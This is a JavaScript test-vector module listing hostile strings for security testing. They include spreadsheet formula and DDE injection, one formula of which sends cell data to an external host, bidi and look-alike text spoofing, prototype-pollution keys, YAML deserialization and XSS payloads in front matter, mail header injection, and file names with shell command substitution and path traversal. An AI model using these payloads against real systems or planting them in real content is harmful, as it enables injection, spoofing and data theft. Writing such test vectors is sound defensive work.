/** Words that do harm where they are shown, counted, sorted, saved or opened in another program. */
import { group } from './vector.testing.js'

const formulas = group('formula', 'words', [
  ({ away }) => `=HYPERLINK("${away}","Read on")`,
  ({ away }) => `=WEBSERVICE("${away}?"&A1)`,
  ({ away }) => `=IMPORTXML("${away}","//a")`,
  () => `=cmd|' /C calc'!A0`,
  () => `+cmd|' /C calc'!A0`,
  () => `-2+3+cmd|' /C calc'!A0`,
  () => `@SUM(1+1)*cmd|' /C calc'!A0`,
  () => `\t=1+1`,
  () => `\r=1+1`,
  () => `  \u00a0=1+1`,
  () => `\uFF1D1+1 and \uFF0B1`,
  () => `"=1+1","=2+2"\n=3+3;=4+4\t=5+5`,
  ({ away }) => `=IMAGE("${away}")&EMBED("${away}")`,
  () => `\u200B=1+1`,
  () => `%0A=1+1 |=1+1 ;=1+1`,
])

const bidis = group('bidi', 'words', [
  () => `The minister said \u202Edesoppo gniliaf\u202C the plan.`,
  () => `Unclosed: \u202Etxet eht fo tser eht`,
  () => `Unclosed: \u202B\u202D\u202Ethree deep`,
  () => `Isolates \u2066\u2067\u2068unclosed, then closed too often \u2069\u2069\u2069\u2069\u202C\u202C`,
  () => `annexe\u202Efdp.exe`,
  () => `\u200F\u200E\u061Cmarks alone`,
  () => `قال الوزير "لن نغلق القفل" قبل 31 ديسمبر 2024 (Orrin)`,
  () => `השר אמר: "שער המים ייפתח ב-5 במאי" — Orrin Post 12:30`,
  () => `Verdict: \u2067not \u2066guilty\u2069\u2069 (12 \u202E31\u202C)`,
  () => `\u202D`.repeat(130) + 'more levels than there are (UAX 9)' + `\u202C`.repeat(20),
])

const lookAlikes = group('look-alike', 'words', [
  () => `The \u041Erri\u0578 Post and The Orrin Post`,
  () => `Re\u0443t\u0435rs, \uFF32eu\uFF54ers, R\u200Beu\u200Dters, Reuters\u2060`,
  () => `12 \uFF11\uFF12 \u0661\u0662 \u{1D7CF}\u{1D7D0} \u2460\u2461 \u2155`,
  () => `le\u0301vee l\u00E9vee le\u0301\u0301\u0301vee`,
  () => `Z` + '\u0351\u0344\u0300'.repeat(80) + ' stacked',
  () => `in\u00ADvis\u00ADi\u00ADble \uFEFF\u180E\u2061\u2062\u2063 \u{E0041}\u{E0042}\u{E007F} tags`,
  () => `\u0000nul \u0007bell \u0008back \u001B[31mred\u001B[0m \u009B31m \u001B]8;;http://hostile.example\u0007link`,
  () => `\uD83D lone \uDE00 surrogates \uFFFE \uFFFF`,
  () => `lines\u2028and\u2029paragraphs\u0085and\u000Bmore\u000C`,
  () => `${'\u{1F468}\u200D'.repeat(60)}\u{1F469} joined ${'\u{1F1E6}'.repeat(31)}`,
  () => 'W'.repeat(5000),
  () => `${'\uFDFA'.repeat(100)} grows when it is normalised`,
])

const pollutions = group('pollution', 'words', [
  () => `__proto__`,
  () => `constructor`,
  () => `prototype.polluted hasOwnProperty toString valueOf __defineGetter__`,
])

const fronts = group('front-matter', 'front-matter', [
  ({ hit }) => `title: "<script>${hit}</script>"\nauthor: <img src=x onerror=${hit}>`,
  ({ hit }) => `title: !!js/function "function(){${hit}}"\ndate: !!python/object/apply:os.system ["id"]`,
  () => `__proto__: {polluted: yes}\nconstructor:\n  - prototype\nprototype.polluted: yes\ntitle: Lock`,
  () => `a: &a [x,x,x]\nb: &b [*a,*a,*a]\nc: &c [*b,*b,*b]\ntitle: *c`,
  ({ hit }) => `title: Lock\nurl: javascript:${hit}\nlang: "en\\" onload=${hit}"\noutlet: "=1+1"`,
  () => `title: "${'\\"'.repeat(3000)}\ndate: ${'9'.repeat(3000)}`,
  () => `title: \u202Ekcol\noutlet: Orrin\u202E tsoP\nauthors: [${'a,'.repeat(2000)}]`,
])

const mails = group('mail', 'mail-header', [
  ({ hit }) =>
    `Subject: =?utf-8?B?${btoa(`<script>${hit}</script>`)}?=\r\nFrom: "<img src=x onerror=${hit}>" <a@orrin.example>`,
  () => `Subject: =?utf-8?Q?one=0D=0ABcc:_all@orrin.example=0D=0A?=\r\nFrom: a@orrin.example`,
  () => `Subject: =?x-unknown?B?////?= =?utf-8?Q?=ZZ?= =?utf-8?B?=?=\r\nFrom: =?utf-8?Q?=E2=80=AE?= <a@orrin.example>`,
  () => `Subject: Lock\r\nFrom: ${'('.repeat(2000)}x${')'.repeat(2000)}\r\nDate: ${'1'.repeat(500)}`,
  () => `Subject: Lock\r\n${'X-Many: 1\r\n'.repeat(2000)}From: a@orrin.example`,
  () => `Subject: ${'=?utf-8?Q?a?= '.repeat(2000)}\r\nFrom: a@orrin.example`,
  ({ away }) =>
    `Subject: Lock\r\nFrom: a@orrin.example\r\nContent-Base: ${away}\r\nContent-Location: ${away}\r\nList-Unsubscribe: <${away}>`,
  () => `Subject: __proto__\r\n__proto__: polluted\r\nconstructor: polluted\r\nFrom: __proto__ <a@orrin.example>`,
])

const names = group('file-name', 'file-name', [
  ({ hit }) => `<img src=x onerror=${hit.replaceAll('`', "'")}>`,
  () => `=HYPERLINK(1,2)`,
  () => `report\u202Etxt.exe`,
  () => `..\\..\\outside`,
  () => `%2e%2e%2foutside`,
  () => `--help`,
  () => `$(touch hostile) \`touch hostile\`; touch hostile & | touch hostile`,
  () => `two\nlines\rand\ta tab`,
  () => `CON`,
  () => `__proto__`,
  () => `constructor`,
  () => `"quoted" 'name' \\u0000`,
  () => '\u6C34'.repeat(80),
  () => `e\u0301te\u0301 \u00E9t\u00E9`,
  () => `\u001B[31mred\u001B[0m\u0007`,
  () => `a b  c\u00a0\u200B\uFEFF`,
  () => `name#fragment?query=1&x=%`,
])

export const worded = [...formulas, ...bidis, ...lookAlikes, ...pollutions, ...fronts, ...mails, ...names]
